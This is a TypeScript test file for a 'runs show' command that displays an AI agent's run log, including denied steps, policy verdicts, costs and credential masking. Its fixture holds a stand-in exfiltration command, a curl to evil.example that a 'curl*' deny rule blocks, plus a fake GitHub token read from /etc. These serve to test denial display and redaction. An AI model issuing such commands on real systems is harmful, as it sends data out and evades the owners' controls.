// What runs show says of a step: what it did, what came of it, why a policy decided, and what it cost.
import { describe, expect, test } from 'vitest'
import { canonicalizeValue } from '../../bindings/core/value.ts'
import { timelineOf } from '../../bindings/runs/record/timeline.ts'
import { brief, deedIn, masked, resultIn } from '../../bindings/runs/record/words.ts'
import { blazon } from '../cli/terminal.ts'

const KEY = `ghp_${'abcdefghij'.repeat(4)}`
const reason = "'curl -H x https://evil.exa…' matches 'curl*' of denied_commands"
const command = 'curl -H x https://evil.example/totals'
const verdict = {
  version: 'pvs-1',
  decision: 'deny',
  reasoning: reason,
  policy_violations: ['/permissions/execution/denied_commands/0'],
  metadata: { 'adl.pointer': '/permissions/execution/denied_commands/0' },
}
const at = (second: number) => `2026-01-02T03:04:${String(second).padStart(2, '0')}Z`
const call = (index: number, name: string, input: object, rest: object = {}) => ({
  index,
  timestamp: at(index),
  action: { type: 'tool_call', name, input },
  observation: { type: 'tool_result', output: {} },
  ...rest,
})
const STEPS = [
  {
    index: 0,
    timestamp: at(0),
    action: { type: 'message', name: 'UserPromptSubmit' },
    observation: { type: 'user_input', output: { value: 'Send the totals.\nToday.' } },
  },
  call(1, 'Bash', { command }, { observation: { type: 'error', error: { message: `Denied: ${reason}` } } }),
  call(
    2,
    'policy_judge',
    { draft_output: { domain: 'execution', command } },
    {
      parent_step_index: 1,
      observation: { type: 'tool_result', output: verdict },
      metadata: { kind: 'policy_verdict' },
    },
  ),
  call(
    3,
    'Read',
    { file_path: `/etc/${KEY}` },
    {
      observation: { type: 'tool_result', output: { file: { content: `${'a line\n'.repeat(100)}${KEY}` } } },
      metadata: { latency_ms: 350, prompt_tokens: 100, completion_tokens: 23, cost_usd: 0.0123 },
    },
  ),
]
const HEAD = {
  version: 'adp-1',
  run_id: 'run-1234',
  tenant_id: 'local',
  started_at: at(0),
  agent: { agent_id: 'coder', aip: { cert_fingerprint: 'none' } },
}
const RECORD = { ...HEAD, steps: STEPS, status: 'failed', completed_at: at(9) }

/** The stream of the record, as a hook writes it: intents first, the verdict before the end of its step. */
const decoder = new TextDecoder()
const linesOf = (values: readonly object[], run_id = 'run-1234') =>
  values.map((value, seq) => `${decoder.decode(canonicalizeValue({ ...value, run_id, seq }))}\n`).join('')
const begun = ({ observation: _, ...intent }: (typeof STEPS)[number]) => ({ type: 'step_started', intent })
const ended = (step: object) => ({ type: 'step', step })
const STREAM = linesOf([
  { type: 'run_started', run: HEAD },
  ended(STEPS[0]!),
  begun(STEPS[1]!),
  ended(STEPS[2]!),
  ended(STEPS[1]!),
  ended(STEPS[3]!),
  { type: 'run_completed', end: { status: 'failed', completed_at: at(9) } },
])

const shown = async (args: string, setting: Parameters<typeof blazon>[1] = {}) =>
  blazon(['runs', 'show', ...args.split(' ')], {
    files: { 'r.ndjson': STREAM, 'r.json': JSON.stringify(RECORD) },
    ...setting,
  })

describe('a row', () => {
  test.each(['r.ndjson', 'r.json'])(
    '%s: says what a step did, what came of it, and why it was denied',
    async (name) => {
      const { stdout, code } = await shown(name)
      expect(stdout.split('\n').map((line) => line.trimEnd())).toEqual([
        '    0      +0 ms  prompt  Send the totals. Today.',
        `    1     +1.0 s  Bash  ${command}`,
        '                  ✕ denied',
        "    2     +2.0 s    ✕ deny  matches 'curl*' of denied_commands (/permissions/execution/denied_commands/0)",
        `    3     +3.0 s  Read  /etc/${'*'.repeat(KEY.length)}`,
        expect.stringMatching(/^ {18}→ (a line )+.*… \(350 ms, 123 tokens, \$0\.012\)$/),
        '',
      ])
      expect(code).toBe(0)
    },
  )

  test.each([80, 120])('fits a terminal of %d columns, and keeps time, tokens and cost', async (columns) => {
    const { stdout } = await shown('r.ndjson', { tty: true, columns })
    for (const line of stdout.split('\n')) expect(line.length).toBeLessThanOrEqual(columns)
    expect(stdout).toMatch(/… \(350 ms, 123 tokens, \$0\.012\)\n/)
    expect(stdout).toContain('/permissions/execution/denied_commands/0')
  })

  test('the input says what matters most, whatever its shape', () => {
    const inputs = [
      { cmd: ['git', 'push'] },
      { pattern: 'x', path: 'src' },
      { url: 'https://a.example/' },
      { a: 1 },
      {},
      { 'adp.redacted': true },
    ]
    expect(inputs.map(deedIn)).toEqual(['git push', 'x in src', 'https://a.example/', '{"a":1}', undefined, '(hidden)'])
  })

  test('a result is the first text that says something, with the exit code', () => {
    const outputs = [
      { stdout: '', stderr: 'no file', exit_code: 2 },
      {
        content: [
          { type: 'text', text: 'a' },
          { type: 'text', text: 'b' },
        ],
      },
      { exitCode: 3 },
      { value: 'plain' },
      [1, 2],
      null,
    ]
    expect(outputs.map((output) => resultIn(output))).toEqual([
      'exit code 2: no file',
      'a b',
      'exit code 3',
      'plain',
      '[1,2]',
      undefined,
    ])
  })

  test('a credential is starred wherever the bound cuts it', () => {
    for (let before = 0; before < 1000; before += 7) {
      const line = brief(`${'x '.repeat(before >> 1)}${KEY} end`)
      expect(line).not.toMatch(/gh|p_|abcd/)
      expect(line.length).toBeLessThanOrEqual(240)
    }
    expect(brief(`${' '.repeat(930)}${KEY}`)).not.toContain('ghp_')
    expect(brief(`'${KEY.slice(0, 30)}…' matches`)).toBe(`'${'*'.repeat(30)}…' matches`)
  })

  test('a text of a megabyte costs no more than its length, wherever it is cut', () => {
    const long = 'a'.repeat(1 << 20)
    expect(masked(long)).toBe(long)
    expect(masked(`${long}…`)).toBe(`${'*'.repeat(1 << 20)}…`)
    const short = `${'a'.repeat(19)}…`.repeat(50_000)
    expect([masked(short) === short, masked('…'.repeat(1 << 19)).length]).toEqual([true, 1 << 19])
    for (const part of [' ', '\x1b[1', '://a:', 'x'.repeat(15), '\n-----BEGIN PRIVATE KEY'])
      expect(brief(part.repeat(100_000)).length).toBeLessThanOrEqual(240)
    const step = { index: 0, action: { type: long, name: long, input: { a: Array(200_000).fill(0) } } }
    const [row] = timelineOf({ ...RECORD, steps: [step] }).steps
    expect(JSON.stringify(row).length).toBeLessThan(1500)
  })

  test('colors of a terminal go, other control characters are visible', () => {
    expect(brief('\x1b[31mred\x1b[0m \x1b[2J\u202e')).toBe('red ␛[2J\ufffd')
  })

  test('costs of steps add up where the run names none', () => {
    expect(timelineOf(RECORD).summary.costUsd).toBe(0.0123)
    expect(timelineOf({ ...RECORD, metadata: { total_cost_usd: 2 } }).summary.costUsd).toBe(2)
  })
})

describe('runs show', () => {
  test('--failed shows what failed and what was not allowed', async () => {
    const { stdout } = await shown('r.ndjson --failed')
    expect(stdout.match(/^ +\d(?= )/gm)?.map(Number)).toEqual([1, 2])
  })

  test('--step shows one step as a whole, without its credentials', async () => {
    for (const name of ['r.ndjson', 'r.json']) {
      const { stdout, stderr, code } = await shown(`${name} --step 3`)
      expect(stdout.match(/^ {12,}a line$/gm)).toHaveLength(100)
      expect(stdout).toContain(`latency_ms: 350`)
      expect([stdout.includes('ghp_'), stdout.includes('Bash'), code, stderr]).toEqual([false, false, 0, ''])
      expect(await shown(`${name} --step 9`)).toMatchObject({
        code: 1,
        stderr: expect.stringContaining('has no step 9: the last one is step 3'),
      })
    }
  })

  test('--json writes a line for each step, and one for the run', async () => {
    const { stdout } = await shown('r.ndjson --json')
    const lines = stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line))
    expect(lines.slice(0, -1)).toMatchObject([
      { index: 0 },
      { name: 'Bash', result: 'denied' },
      { verdict: 'deny' },
      { costUsd: 0.0123 },
    ])
    expect(lines.at(-1)).toMatchObject({ run: { status: 'failed', denied: 1, failed: 0 } })
  })
})
